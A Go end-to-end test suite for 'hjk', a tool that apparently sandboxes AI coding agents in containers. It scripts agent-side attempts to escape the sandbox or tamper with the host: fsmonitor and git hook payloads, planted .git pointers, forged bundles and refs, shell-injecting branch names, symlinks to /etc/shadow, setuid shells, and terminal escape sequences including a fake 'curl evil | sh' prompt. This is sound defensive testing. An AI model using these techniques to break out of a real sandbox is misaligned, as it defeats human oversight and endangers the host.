package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/hjk-dev/hjk/internal/host/instance"
)

// The attacks of issue 11, each done from inside the container as the
// agent would (a shell session of the default `hjk run`, or `hjk exec`),
// each ending with the same three checks: nothing ran on the host (a
// marker in a folder only the host has), the host repository's refs are
// as they were (but for the branch's own fast-forward where the test
// means it) and `git fsck` finds it sound.

// agent runs script in the instance of branch as the agent would, in a
// shell session of `hjk run` (which makes the instance when missing), and
// returns what it printed. The script must end with status 0.
func (h *harness) agent(branch, script string) string {
	h.t.Helper()
	r := h.hjk("run", branch, "--agent", "shell", script)
	if r.code != 0 {
		h.t.Fatalf("the agent's script in %s: exit %d\nstdout: %s\nstderr: %s", branch, r.code, r.stdout, r.stderr)
	}
	return r.stdout
}

// hasLines fails the test unless out holds each of lines as a line, and
// none of absent.
func hasLines(t *testing.T, what, out string, lines []string, absent ...string) {
	t.Helper()
	got := map[string]bool{}
	for _, l := range strings.Split(out, "\n") {
		got[strings.TrimSpace(l)] = true
	}
	for _, l := range lines {
		if !got[l] {
			t.Errorf("%s: no line %q in:\n%s", what, l, out)
		}
	}
	for _, l := range absent {
		if got[l] {
			t.Errorf("%s: line %q in:\n%s", what, l, out)
		}
	}
}

// paths fills in the host paths an attack aims at: MARKER (only the host
// has its folder), HOSTGIT (the host repository's git dir) and OTHERGIT.
func paths(script string, kv ...string) string {
	return strings.NewReplacer(kv...).Replace(script)
}

// TestAttackFsmonitor: core.fsmonitor set in the only git config the
// container can write, the instance's own (the host's git dir is not
// there to reach), never runs on the host: not at the user's git status
// in the repository or in the workspace folder (its .git stops host git),
// nor through hjk's ps, sync and rm, whose git calls inside switch it off.
func TestAttackFsmonitor(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		h.agent("fsm", "true")
		in := h.ps()["fsm"]
		before := h.refs()
		out := h.agent("fsm", paths(`
printf '#!/bin/sh\ntouch MARKER\necho ran >> /home/agent/fsmonitor.log\n' > /home/agent/fsmonitor
chmod +x /home/agent/fsmonitor
git config core.fsmonitor /home/agent/fsmonitor && echo set-in-own-config
git status --porcelain >/dev/null 2>&1; [ -s /home/agent/fsmonitor.log ] && echo ran-in-container
[ -e HOSTGIT ] || echo no-host-gitdir
ls -A /.hjk/host
git --git-dir=/.hjk/host config core.fsmonitor /home/agent/fsmonitor 2>/dev/null || echo no-host-config
touch /.hjk/host/config /.hjk/host/objects/config 2>/dev/null || echo host-folders-read-only
true`, "MARKER", marker, "HOSTGIT", h.gitDir))
		hasLines(t, "the agent", out, []string{"set-in-own-config", "ran-in-container", "no-host-gitdir", "objects", "no-host-config", "host-folders-read-only"})
		ran := h.sh("fsm", "wc -l < /home/agent/fsmonitor.log")

		// The user's git, in the repository and in the workspace folder.
		h.git("status")
		if out, err := h.gitErr("-C", in.Folder, "status"); err == nil {
			t.Errorf("git status in the workspace folder on the host found a repository:\n%s", out)
		}
		// hjk's commands.
		h.ok("ps")
		h.ok("ps", "fsm")
		h.ok("sync", "fsm")
		if n := h.sh("fsm", "wc -l < /home/agent/fsmonitor.log"); n != ran {
			t.Errorf("hjk's git calls in the container ran the agent's fsmonitor (%s runs, %s before)", n, ran)
		}
		h.ok("rm", "fsm")
		h.noMarker(marker)
		h.sameRefs(before, nil)
		h.fsck()
	})
}

// TestAttackHooks: hooks in every folder the agent can write (its own
// repository's hooks, a core.hooksPath in the workspace, committed to the
// branch) run in the container only; the user's commits and checkouts on
// the host, of that very branch too, run none of them.
func TestAttackHooks(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		h.agent("hooks", "true")
		before := h.refs()
		out := h.agent("hooks", paths(`
hook='#!/bin/sh
touch MARKER
echo "$0" >> /home/agent/hooks.log'
mkdir -p .hooks
for name in pre-commit post-commit reference-transaction post-checkout post-merge pre-push; do
  printf '%s\n' "$hook" > /.hjk/data/git/hooks/$name && chmod +x /.hjk/data/git/hooks/$name
  printf '%s\n' "$hook" > .hooks/$name && chmod +x .hooks/$name
done
[ -e HOSTGIT ] || echo no-host-gitdir
mkdir /.hjk/host/hooks 2>/dev/null || echo no-host-hooks
git add .hooks && git commit -qm 'hooks, committed' && echo committed
[ -s /home/agent/hooks.log ] && echo hooks-ran-in-container
git config core.hooksPath /workspace/.hooks
git commit -q --allow-empty -m 'through core.hooksPath' && echo committed-again
true`, "MARKER", marker, "HOSTGIT", h.gitDir))
		hasLines(t, "the agent", out, []string{"no-host-gitdir", "no-host-hooks", "committed", "hooks-ran-in-container", "committed-again"})
		tip := h.git("rev-parse", "refs/heads/hooks")
		if got := h.git("log", "-2", "--format=%s", "hooks"); got != "through core.hooksPath\nhooks, committed" {
			t.Fatalf("the branch after the session: %q", got)
		}

		// The user checks the branch out and commits on it, and on main.
		next := h.hostCommit("hooks", "host.txt", "from the host\n", "on the host")
		h.git("commit", "-q", "--allow-empty", "-m", "host, on main")
		h.git("checkout", "-q", "hooks")
		h.git("checkout", "-q", "main")
		if _, err := h.gitErr("merge", "-q", "--no-edit", "hooks"); err != nil {
			t.Errorf("merge on the host: %v", err)
		}
		h.ok("sync", "hooks")
		if got := h.sh("hooks", "git log -1 --format=%s"); got != "on the host" {
			t.Errorf("the instance after sync is at %q", got)
		}
		h.noMarker(marker)
		h.sameRefs(before, map[string]string{"refs/heads/hooks": next, "refs/heads/main": h.git("rev-parse", "main")})
		if tip == next || h.git("rev-parse", "refs/heads/hooks~1") != tip {
			t.Errorf("the host's commit is not on the agent's")
		}
		h.fsck()
	})
}

// TestAttackGitPointer: the workspace's .git cannot be rewritten (it is a
// read-only mount); .git files and folders the agent plants in
// subfolders (a repository with an fsmonitor and hooks, a pointer to
// another repository of the user's, a linked worktree's commondir) are
// never followed: hjk ps, sync, run and rm from inside the workspace
// work on the repository hjk recorded, and touch nothing else.
func TestAttackGitPointer(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		other := filepath.Join(h.root, "other")
		h.git("init", "-q", "-b", "main", other)
		h.git("-C", other, "commit", "-q", "--allow-empty", "-m", "other's")
		otherGit := filepath.Join(other, ".git")
		otherRefs := h.git("-C", other, "for-each-ref")
		h.agent("ptr", "true")
		in := h.ps()["ptr"]
		before := h.refs()
		out := h.agent("ptr", paths(`
(printf 'gitdir: OTHERGIT\n' > .git) 2>/dev/null && echo rewrote || echo dotgit-refused
rm -f .git 2>/dev/null && echo removed
mv .git moved 2>/dev/null && echo moved
[ "$(cat .git)" = "gitdir: /.hjk/data/git" ] && echo dotgit-intact
git init -q planted && git -C planted config core.fsmonitor 'touch MARKER' && echo planted-repo
printf '#!/bin/sh\ntouch MARKER\n' > planted/.git/hooks/post-checkout && chmod +x planted/.git/hooks/post-checkout
git init -q --bare OTHERGIT # the same path in the container: the pointer works on both sides
mkdir -p planted/sub pointer/deeper && printf 'gitdir: OTHERGIT\n' > pointer/.git && echo pointer
mkdir -p linked/.git && printf 'OTHERGIT\n' > linked/.git/commondir && echo 'ref: refs/heads/main' > linked/.git/HEAD && echo linked
true`, "MARKER", marker, "OTHERGIT", otherGit))
		hasLines(t, "the agent", out, []string{"dotgit-refused", "dotgit-intact", "planted-repo", "pointer", "linked"}, "rewrote", "removed", "moved")

		for _, dir := range []string{in.Folder, filepath.Join(in.Folder, "planted", "sub"), filepath.Join(in.Folder, "pointer", "deeper"), filepath.Join(in.Folder, "linked")} {
			r := h.hjkIn(dir, "ps", "--json")
			var list []instance.Instance
			if err := json.Unmarshal([]byte(r.stdout), &list); r.code != 0 || err != nil || len(list) != 1 || list[0].GitDir != h.gitDir {
				t.Errorf("hjk ps in %s: exit %d, %v: %s %s", dir, r.code, err, r.stdout, r.stderr)
			}
			if r := h.hjkIn(dir, "sync", "ptr"); r.code != 0 {
				t.Errorf("hjk sync in %s: exit %d: %s", dir, r.code, r.stderr)
			}
			if r := h.hjkIn(dir, "run", "ptr", "--agent", "shell", "echo again"); r.code != 0 || strings.TrimSpace(r.stdout) != "again" {
				t.Errorf("hjk run in %s: exit %d: %q %s", dir, r.code, r.stdout, r.stderr)
			}
		}
		// A new branch's instance, made from inside the workspace: of the
		// recorded repository.
		planted := filepath.Join(in.Folder, "planted")
		if r := h.hjkIn(planted, "run", "fromws", "--agent", "shell", "git branch --show-current"); r.code != 0 || strings.TrimSpace(r.stdout) != "fromws" {
			t.Errorf("hjk run fromws inside the workspace: exit %d: %q %s", r.code, r.stdout, r.stderr)
		}
		if got := h.ps()["fromws"]; got.GitDir != h.gitDir {
			t.Errorf("the instance made from inside the workspace is of %q", got.GitDir)
		}
		if r := h.hjkIn(in.Folder, "rm", "ptr"); r.code == 0 || !strings.Contains(r.stderr, "uncommitted changes") {
			t.Errorf("hjk rm of a workspace with planted folders: exit %d: %s", r.code, r.stderr)
		}
		if r := h.hjkIn(planted, "rm", "ptr", "-f"); r.code != 0 {
			t.Errorf("hjk rm -f inside the workspace: exit %d: %s", r.code, r.stderr)
		}
		if _, err := os.Stat(in.Folder); !os.IsNotExist(err) {
			t.Errorf("the workspace outlived hjk rm -f: %v", err)
		}
		h.ok("rm", "fromws", "-f")
		h.noMarker(marker)
		h.sameRefs(before, map[string]string{"refs/heads/fromws": h.git("rev-parse", "main")})
		if got := h.git("-C", other, "for-each-ref"); got != otherRefs {
			t.Errorf("the other repository's refs changed:\n%s\nwere\n%s", got, otherRefs)
		}
		if out, err := h.gitErr("-C", other, "fsck", "--strict", "--no-progress"); err != nil {
			t.Errorf("git fsck of the other repository: %v\n%s", err, out)
		}
		h.fsck()
	})
}

// TestAttackObjectsAndRefs: the host's objects are read-only in the
// container, and the refs the agent moves, makes or deletes are its own
// repository's: a pull takes the branch alone, by fast-forward.
func TestAttackObjectsAndRefs(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		h.git("branch", "other")
		h.git("tag", "v1")
		h.agent("objs", "true")
		before := h.refs()
		objects := h.git("count-objects", "-v")
		out := h.agent("objs", `
rm -rf /.hjk/host/objects/* 2>/dev/null; [ -n "$(ls /.hjk/host/objects)" ] && echo objects-kept
touch /.hjk/host/objects/planted 2>/dev/null || echo objects-read-only
f=$(find /.hjk/host/objects -type f | head -1); (echo x >> "$f") 2>/dev/null || echo object-files-read-only
c=$(git commit-tree -m evil 'HEAD^{tree}')
git update-ref refs/heads/main $c && git update-ref refs/heads/other $c && git tag -f v1 $c >/dev/null &&
  git update-ref refs/hjk/objs $c && git update-ref refs/remotes/origin/main $c && echo moved-own-refs
git update-ref -d refs/heads/other && echo deleted-own-ref
git commit -q --allow-empty -m 'the work' && echo committed
git gc -q --prune=now && echo gc
true`)
		hasLines(t, "the agent", out, []string{"objects-kept", "objects-read-only", "object-files-read-only", "moved-own-refs", "deleted-own-ref", "committed", "gc"})
		if got := h.git("log", "-1", "--format=%s", "objs"); got != "the work" {
			t.Errorf("the branch after the session: %q", got)
		}
		if got := h.git("count-objects", "-v"); countOf(got, "count")+countOf(got, "in-pack") < countOf(objects, "count")+countOf(objects, "in-pack") {
			t.Errorf("the host lost objects:\n%s\nwas\n%s", got, objects)
		}
		if got := h.sh("objs", "git log -1 --format=%s && git status --porcelain"); got != "the work" {
			t.Errorf("the instance after its gc: %q", got)
		}
		h.noMarker(marker)
		h.sameRefs(before, map[string]string{"refs/heads/objs": h.git("rev-parse", "objs")})
		h.fsck()
	})
}

// countOf is the value of key in `git count-objects -v`.
func countOf(out, key string) int {
	for _, l := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(l, key+": "); ok {
			n, _ := strconv.Atoi(v)
			return n
		}
	}
	return 0
}

// fakeGit is the agent's own git, first on the image's PATH, which hjk-init
// runs for hjk's calls too: it passes everything to the real git but
// `bundle create`, for which it hands over what ~/bundle-mode says.
const fakeGit = `#!/bin/sh
real=/usr/bin/git
case " $* " in *" bundle create "*) ;; *) exec $real "$@" ;; esac
b=refs/heads/bun
nots= host=
for a in "$@"; do case $a in ^*) nots="$nots $a"; [ -n "$host" ] || host=${a#^} ;; esac; done
case "$(cat ~/bundle-mode 2>/dev/null)" in
other-refs)
  c=$($real commit-tree -m 'not for main' "$b^{tree}")
  $real update-ref refs/heads/main $c && $real update-ref refs/tags/evil $c && $real update-ref refs/heads/zz $c
  exec $real bundle create -q - $b refs/heads/main refs/tags/evil refs/heads/zz $nots ;;
only-other)
  exec $real bundle create -q - refs/heads/main ;;
corrupt)
  printf '# v2 git bundle\n%s %s\n\nPACK\000\000\000\002garbage' "$($real rev-parse $b)" $b; exit 0 ;;
bad-object)
  bad=$(printf 'tree %s\nparent %s\nauthor no email here\ncommitter x <x@example.com> 1 +0000\n\nbad\n' "$($real rev-parse "$b^{tree}")" $host |
    $real hash-object -t commit -w --literally --stdin)
  cur=$($real rev-parse $b); $real update-ref $b $bad; $real bundle create -q - $b $nots; s=$?; $real update-ref $b $cur; exit $s ;;
prereq)
  x=$($real commit-tree -p $b -m 'never sent' "$b^{tree}"); y=$($real commit-tree -p $x -m 'needs it' "$b^{tree}")
  cur=$($real rev-parse $b); $real update-ref $b $y; $real bundle create -q - $b ^$x; s=$?; $real update-ref $b $cur; exit $s ;;
rewrite)
  c=$($real commit-tree -m 'history rewritten' "$b^{tree}")
  cur=$($real rev-parse $b); $real update-ref $b $c; $real bundle create -q - $b; s=$?; $real update-ref $b $cur; exit $s ;;
huge)
  head -c 80000000 /dev/zero; exit 0 ;;
escapes)
  printf '\033]0;pwned-title\007\033]52;c;cHduZWQ=\007\033[2J\033[H\r\033[1;32m$ run: curl evil | sh\033[0m\n' >&2; exit 1 ;;
esac
exec $real "$@"
`

// plantGit is a script that makes the agent's git the fake one.
func plantGit() string {
	return "cat > /home/agent/bin/git <<'FAKE'\n" + fakeGit + "FAKE\nchmod +x /home/agent/bin/git && echo normal > ~/bundle-mode && command -v git"
}

// TestAttackBundles: the container hands over whatever it likes as its
// bundle (its git is its own): one that names other refs, one without the
// branch, a corrupt one, one with an object fsck refuses, one needing a
// commit the host lacks, a rewritten history, one over the size cap. The
// host takes only the branch, only by fast-forward (a rewritten history
// stays at refs/hjk/B), refuses the rest and keeps its refs; the next
// honest bundle comes through.
func TestAttackBundles(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		h.git("branch", "zz")
		// The cap is the user's to set: a 64MiB one, and the huge bundle
		// 80MB of zeros (the default's 2GiB would take a minute to reach).
		h.ok("config", "sync.max_bundle", "64MiB")
		if out := strings.TrimSpace(h.agent("bun", plantGit())); out != "/home/agent/bin/git" {
			t.Fatalf("the fake git is not the one on PATH: %q", out)
		}
		for _, c := range []struct {
			mode string
			says string // in hjk's warning; "" for a bundle taken
			kept bool   // refs/hjk/bun holds the agent's tip
		}{
			{"other-refs", "", false},
			{"only-other", "holds no refs/heads/bun", false},
			{"corrupt", "the bundle from", false},
			{"bad-object", "missingEmail", false},
			{"prereq", "the bundle from", false},
			{"rewrite", "both have commits the other lacks", true},
			{"huge", "larger than hjk takes", false},
		} {
			before := h.refs()
			// The exec ends with a pull of the commit it made: the attack.
			r := h.hjk("exec", "bun", "--", "sh", "-c", "echo "+c.mode+" > ~/bundle-mode && git commit -q --allow-empty -m "+c.mode)
			if r.code != 0 {
				t.Fatalf("%s: hjk exec: exit %d: %s", c.mode, r.code, r.stderr)
			}
			if c.says != "" {
				if !strings.Contains(r.stderr, "hjk: warning: ") || !strings.Contains(r.stderr, c.says) {
					t.Errorf("%s: hjk said %q, want a warning saying %q", c.mode, r.stderr, c.says)
				}
				kept := map[string]string{}
				if c.kept {
					kept[instance.KeptRef("bun")] = h.git("rev-parse", instance.KeptRef("bun"))
					if got := h.git("log", "-1", "--format=%s", instance.KeptRef("bun")); got != "history rewritten" {
						t.Errorf("%s: %s holds %q, not the agent's tip", c.mode, instance.KeptRef("bun"), got)
					}
				}
				h.sameRefs(before, kept)
				h.fsck()
			} else if strings.Contains(r.stderr, "warning") {
				t.Errorf("%s: hjk warned: %s", c.mode, r.stderr)
			}
			// The next pull, of an honest bundle, takes the commit (and
			// drops what was kept).
			tip := h.sh("bun", "echo normal > ~/bundle-mode && /usr/bin/git rev-parse HEAD")
			h.sameRefs(before, map[string]string{"refs/heads/bun": tip})
			if got := h.git("log", "-1", "--format=%s", "bun"); got != c.mode {
				t.Errorf("%s: the branch is at %q after the honest pull", c.mode, got)
			}
			if ents, _ := os.ReadDir(filepath.Join(h.data, "tmp")); len(ents) != 0 {
				t.Errorf("%s: hjk left %d files in its tmp folder", c.mode, len(ents))
			}
			h.fsck()
		}
		if got := h.git("rev-parse", "zz"); got != h.git("rev-parse", "main") {
			t.Error("a bundle moved another branch")
		}
		if _, err := h.gitErr("rev-parse", "--verify", "-q", "refs/tags/evil"); err == nil {
			t.Error("a bundle made a tag")
		}
		h.noMarker(marker)
	})
}

// TestAttackBranchNames: a branch named to run a shell command is a name
// like any other (git takes it): nothing runs it, and hjk quotes it where
// it hands it back; names hjk or git would not take make no instance.
// (Completion quoting every candidate in bash, zsh and fish is the cli
// package's TestShellsQuoteCandidates.)
func TestAttackBranchNames(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		h.git("checkout", "-q", "-b", "before")
		h.git("checkout", "-q", "main")
		before := h.refs()
		for _, name := range []string{"zz$(touch${IFS}" + marker + ")", "zz`touch${IFS}" + marker + "`", "zz;touch${IFS}" + marker, "a'q"} {
			if out := h.agent(name, "git branch --show-current"); strings.TrimSpace(out) != name {
				t.Errorf("the instance of %q is on %q", name, out)
			}
			r := h.hjk("run", name, "-d", "--name", "s", "--agent", "shell", "sleep 60")
			if quoted := "'" + strings.ReplaceAll(name, "'", `'\''`) + "'"; r.code != 0 || !strings.Contains(r.stderr, "hjk attach "+quoted+" s") {
				t.Errorf("run -d of %q: exit %d, the hint does not quote it: %s", name, r.code, r.stderr)
			}
			if _, ok := h.ps()[name]; !ok {
				t.Errorf("hjk ps does not list %q", name)
			}
			h.ok("rm", name, "-f")
			before["refs/heads/"+name] = h.git("rev-parse", "main")
		}
		for _, name := range []string{"a b", "a..b", "x\ny", "x\x1b]0;t\x07", "@{-1}", "@{-1}/x", "HEAD", ".hidden", "a.lock", "a/", "tab\tx"} {
			r := h.hjk("run", name, "--agent", "shell", "true")
			if r.code == 0 {
				t.Errorf("hjk made an instance of %q", name)
			}
			for _, c := range r.stderr {
				if c == 0x1b || c == 0x07 {
					t.Errorf("hjk's refusal of %q printed a control character: %q", name, r.stderr)
					break
				}
			}
		}
		if len(h.ps()) != 0 || len(h.containers()) != 0 || len(h.volumes()) != 0 {
			t.Errorf("refused names left instances: %v %v %v", h.ps(), h.containers(), h.volumes())
		}
		h.noMarker(marker)
		h.sameRefs(before, nil)
		h.fsck()
	})
}

// TestAttackPlantedFiles: setuid binaries, links to host paths, FIFOs in
// the workspace and in the instance's volume (as session logs and states):
// hjk on the host follows none of them and waits on none: ps, logs and rm
// return, what the links point at is untouched, what they hold is never
// shown, and rm removes the files themselves.
func TestAttackPlantedFiles(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		marker := h.hostMarker()
		hostOnly := filepath.Dir(marker)
		secret := filepath.Join(hostOnly, "secret")
		os.WriteFile(secret, []byte("host-only-e2eFAKE\n"), 0o644)
		h.agent("plant", "true")
		in := h.ps()["plant"]
		before := h.refs()
		out := h.agent("plant", paths(`
cp /bin/sh suid-sh && chmod 4755 suid-sh && [ -u suid-sh ] && echo suid-made
mkfifo fifo && echo fifo-made
ln -s SECRET link-file && ln -s HOSTONLY link-dir && ln -s / link-root && ln -s /etc/shadow link-shadow && echo links-made
mknod dev c 1 3 2>/dev/null && echo mknod-made || echo mknod-refused
mkdir -p unwritable/deep && chmod 0 unwritable && echo unwritable-made
s=/.hjk/data/sessions; mkdir -p $s
mkfifo $s/fifo.json $s/fifo.log
printf '{"name":"fl","state":"running","command":["x"],"started":"2026-01-01T00:00:00Z"}' > $s/fl.json && mkfifo $s/fl.log
ln -s /etc/passwd $s/lk.json
printf '{"name":"lk2","state":"exited","command":["x"],"started":"2026-01-01T00:00:00Z"}' > $s/lk2.json && ln -s /etc/passwd $s/lk2.log
cp /bin/sh /.hjk/data/suid && chmod 4755 /.hjk/data/suid && echo data-planted
true`, "SECRET", secret, "HOSTONLY", hostOnly))
		hasLines(t, "the agent", out, []string{"suid-made", "fifo-made", "links-made", "mknod-refused", "unwritable-made", "data-planted"}, "mknod-made")

		h.ok("ps")
		if r := h.hjk("ps", "plant"); r.code != 0 || strings.Contains(r.stdout, "root:") {
			t.Errorf("hjk ps plant: exit %d: %s %s", r.code, r.stdout, r.stderr)
		}
		for _, name := range []string{"fl", "lk", "lk2", "fifo"} {
			r := h.hjk("logs", "plant", name)
			if strings.Contains(r.stdout+r.stderr, "root:") {
				t.Errorf("hjk logs plant %s showed /etc/passwd", name)
			}
		}
		h.ok("sync", "plant")
		if r := h.hjk("rm", "plant"); r.code == 0 {
			t.Error("hjk rm without -f removed a workspace holding files")
		}
		h.ok("rm", "plant", "-f")
		if _, err := os.Lstat(in.Folder); !os.IsNotExist(err) {
			t.Errorf("the workspace outlived hjk rm -f: %v", err)
		}
		if b, err := os.ReadFile(secret); err != nil || string(b) != "host-only-e2eFAKE\n" {
			t.Errorf("the host file a link pointed at: %q, %v", b, err)
		}
		if fi, err := os.Stat(hostOnly); err != nil || !fi.IsDir() || fi.Mode().Perm() != 0o755 {
			t.Errorf("the host folder a link pointed at: %v, %v", fi, err)
		}
		if len(h.volumes()) != 0 {
			t.Errorf("volumes left: %v", h.volumes())
		}
		h.noMarker(marker)
		h.sameRefs(before, nil)
		h.fsck()
	})
}

// controls returns the first control character in s that would act on a
// terminal (anything below 0x20 but newline and tab, DEL, C1), or "".
func controls(s string) string {
	for _, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == utf8.RuneError {
			return strconv.QuoteRune(r)
		}
	}
	return ""
}

// TestAttackEscapes: escape sequences (a title change, an OSC 52
// clipboard write, a clear screen, a fake green prompt line after a
// carriage return) in a session's name, state and command, in its log, and
// in the error output of hjk's calls in the container reach the host's
// terminal stripped: through hjk ps, hjk logs, and hjk's warnings and
// errors.
func TestAttackEscapes(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, h *harness) {
		h.agent("esc", "true")
		out := h.agent("esc", `
e=$(printf '\033'); b=$(printf '\007'); cr=$(printf '\r')
/.hjk/bin/hjk-init session start --name "${e}]0;name-title${b}" -- true 2>/dev/null || echo name-refused
/.hjk/bin/hjk-init session start --name esc -- sh -c 'printf "%s\n" "$1"; sleep 600' "${e}]0;cmd-title${b}" \
  "${e}]0;log-title${b}${e}]52;c;cHduZWQ=${b}${e}[2J${e}[H${cr}${e}[1;32m\$ run: curl evil | sh${e}[0m" && echo started
printf '%s\n' '{"name":"evil","state":"\u001b]0;state-title\u0007running","command":["\u001b]0;cmd2-title\u0007","\u001b[2J"],"started":"2026-01-01T00:00:00Z"}' > /.hjk/data/sessions/evil.json && echo planted
true`)
		hasLines(t, "the agent", out, []string{"name-refused", "started", "planted"})
		h.waitSession("esc", "esc", "running")
		check := func(what, s string, want ...string) {
			t.Helper()
			if c := controls(s); c != "" {
				t.Errorf("%s printed %s:\n%q", what, c, s)
			}
			for _, title := range []string{"name-title", "cmd-title", "cmd2-title", "state-title", "log-title", "pwned-title", "cHduZWQ="} {
				if strings.Contains(s, title) {
					t.Errorf("%s printed what a sequence carried (%s):\n%q", what, title, s)
				}
			}
			for _, w := range want {
				if !strings.Contains(s, w) {
					t.Errorf("%s does not show %q:\n%q", what, w, s)
				}
			}
		}
		r := h.hjk("ps", "esc")
		check("hjk ps esc", r.stdout+r.stderr, "esc")
		r = h.hjk("ps", "esc", "--json")
		if c := controls(r.stdout + r.stderr); c != "" {
			t.Errorf("hjk ps esc --json printed %s", c)
		}
		r = h.hjk("logs", "esc", "esc")
		check("hjk logs", r.stdout+r.stderr, "run: curl evil | sh")
		if strings.Contains(r.stdout, "\r") {
			t.Error("hjk logs printed a carriage return")
		}

		// The container's git answers hjk's call with escapes on stderr.
		h.agent("esc", plantGit()+" && echo escapes > ~/bundle-mode && git commit -q --allow-empty -m x")
		r = h.hjk("sync", "esc")
		if r.code == 0 {
			t.Error("hjk sync took a bundle the container refused")
		}
		check("hjk sync's error", r.stdout+r.stderr, "hjk: ")
		r = h.hjk("run", "esc", "--agent", "shell", "true")
		check("hjk run's warning", r.stdout+r.stderr, "hjk: warning: ")
	})
}
